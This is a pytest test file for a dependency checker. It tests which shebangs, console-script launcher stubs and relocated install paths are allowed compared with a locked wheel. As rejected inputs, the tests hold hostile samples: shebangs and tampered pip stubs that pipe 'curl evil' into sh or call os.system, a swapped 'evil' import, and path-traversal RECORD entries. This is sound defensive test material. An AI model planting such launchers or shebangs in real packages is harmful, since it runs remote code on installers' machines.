"""What an installer may write outside site-packages: shebangs, console-script launchers, scheme
paths (warden/deps/launchers.py), and how the locked-wheel comparison uses them."""

from __future__ import annotations

import pytest

from warden.deps.installed import RecordEntry
from warden.deps.launchers import allowed_shebang, install_layout, is_entry_point_launcher
from warden.deps.wheels import WheelContent, compare_records, rewritten_script

SITE = "/venv/lib/python3.11/site-packages"
LAYOUT = install_layout(SITE)

PIP_STUB = (
    b"#!/venv/bin/python\n# -*- coding: utf-8 -*-\nimport re\nimport sys\n"
    b"from pip._internal.cli.main import main\n"
    b"if __name__ == '__main__':\n"
    b"    sys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])\n"
    b"    sys.exit(main())\n"
)
UV_STUB = (
    b"#!/venv/bin/python3\n# -*- coding: utf-8 -*-\nimport sys\nfrom pkg.cli import app\n"
    b'if __name__ == "__main__":\n'
    b'    if sys.argv[0].endswith("-script.pyw"):\n        sys.argv[0] = sys.argv[0][:-11]\n'
    b'    elif sys.argv[0].endswith(".exe"):\n        sys.argv[0] = sys.argv[0][:-4]\n'
    b"    sys.exit(app.run())\n"
)


def test_layout_of_a_venv_and_of_a_bare_directory():
    assert LAYOUT is not None
    assert (LAYOUT.scripts, LAYOUT.data, LAYOUT.headers) == ("../../../bin", "../../..", "../../../include")
    assert LAYOUT.scripts_dir == "/venv/bin"
    assert install_layout("/srv/some/site-packages") is None


@pytest.mark.parametrize(
    ("line", "ok"),
    [
        (b"#!/venv/bin/python", True),
        (b"#!/venv/bin/python3.11", True),
        (b"#!/usr/bin/python3", False),  # not the environment's interpreter
        (b"#!/usr/bin/env -S sh -c 'curl evil|sh; exec /venv/bin/python \"$0\"'", False),
        (b"#!/venv/bin/python -c evil", False),
        (b"#!/venv/bin/../../tmp/python", False),
        (b"#!/venv/bin/sh", False),
        (b"#!python", False),
    ],
)
def test_only_the_environments_own_interpreter_is_an_allowed_shebang(line, ok):
    assert allowed_shebang(line, LAYOUT) is ok


def test_a_rewritten_script_needs_an_allowed_shebang():
    body = b"print(1)\n"
    assert rewritten_script(b"#!python\n" + body, b"#!/venv/bin/python\n" + body, LAYOUT)
    evil = b"#!/usr/bin/env -S sh -c 'curl evil|sh'\n" + body
    assert not rewritten_script(b"#!python\n" + body, evil, LAYOUT)


def test_generated_stubs_of_pip_and_uv_are_launchers_of_their_entry_point():
    assert is_entry_point_launcher(PIP_STUB, "pip._internal.cli.main:main", LAYOUT)
    assert is_entry_point_launcher(UV_STUB, "pkg.cli:app.run", LAYOUT)
    assert not is_entry_point_launcher(PIP_STUB, "pip._internal.cli.main:other", LAYOUT)
    assert not is_entry_point_launcher(PIP_STUB, "evil:main", LAYOUT)


@pytest.mark.parametrize(
    "content",
    [
        b"#!/bin/sh\ncurl evil | sh\n",
        PIP_STUB.replace(b"import re\n", b"import re\nimport os\nos.system('curl evil|sh')\n"),
        PIP_STUB.replace(b"    sys.exit(main())\n", b"    __import__('os').system('x')\n    sys.exit(main())\n"),
        PIP_STUB.replace(b"re.sub(", b"(lambda *a: __import__('os').system('x'))("),
        PIP_STUB.replace(b"sys.argv[0] = ", b"sys.modules['x'] = "),
        PIP_STUB.replace(b"#!/venv/bin/python", b"#!/usr/bin/env -S sh -c evil"),
        PIP_STUB.replace(b"from pip._internal.cli.main import main", b"from evil import main"),
        PIP_STUB + b"print('more')\n",
        PIP_STUB.replace(b"sys.exit(main())", b"sys.exit(main(1))"),
        b"#!/venv/bin/python\n\xff\xfe not utf-8\n",
        b"#!/venv/bin/python\n" + b"(" * 5000 + b"\n",
    ],
)
def test_anything_beyond_the_stub_is_not_a_launcher(content):
    assert not is_entry_point_launcher(content, "pip._internal.cli.main:main", LAYOUT)


def _wheel(rows, entry=None):
    entries = tuple(RecordEntry(p, d, None) for p, d in rows)
    return WheelContent("0" * 64, "pkg-1.0.dist-info", entries, {}, dict(entry or {}))


def test_relocated_files_must_land_in_their_schemes_own_place():
    wheel = _wheel([("pkg-1.0.data/data/share/pkg/hook.py", "sha256=H"), ("pkg/a.py", "sha256=A")])
    never = lambda *_: False  # noqa: E731
    right = [RecordEntry("pkg/a.py", "sha256=A", None), RecordEntry("../../../share/pkg/hook.py", "sha256=H", None)]
    assert compare_records(wheel, "pkg-1.0.dist-info", right, never, never, LAYOUT) == []
    moved = [
        RecordEntry("pkg/a.py", "sha256=A", None),
        RecordEntry("../../../lib/x/share/pkg/hook.py", "sha256=H", None),
    ]
    diffs = compare_records(wheel, "pkg-1.0.dist-info", moved, never, never, LAYOUT)
    assert "pkg-1.0.data/data/share/pkg/hook.py: in the locked wheel, not in the installed RECORD" in diffs
    assert "../../../lib/x/share/pkg/hook.py: in the installed RECORD, not in the locked wheel" in diffs


def test_a_launcher_outside_the_scripts_directory_is_a_difference():
    wheel = _wheel([("pkg/a.py", "sha256=A")], entry={"foo": "pkg:main"})
    always = lambda *_: True  # noqa: E731
    rows = [
        RecordEntry("pkg/a.py", "sha256=A", None),
        RecordEntry("../../../../../../usr/local/bin/foo", "sha256=F", None),
    ]
    assert compare_records(wheel, "pkg-1.0.dist-info", rows, always, always, LAYOUT) == [
        "../../../../../../usr/local/bin/foo: in the installed RECORD, not in the locked wheel"
    ]
